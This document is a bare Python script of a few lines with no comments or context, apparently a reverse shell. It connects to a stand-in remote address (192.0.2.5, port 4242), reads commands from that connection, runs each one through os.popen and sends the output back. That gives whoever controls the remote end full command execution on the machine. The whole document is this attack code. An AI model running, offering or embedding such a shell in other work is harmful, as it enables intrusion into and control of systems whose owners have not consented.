import socket,os
s=socket.socket()
s.connect(('192.0.2.5',4242))
f=s.makefile('rw')
while True:
    c=f.readline()
    f.write(os.popen(c).read())
    f.flush()
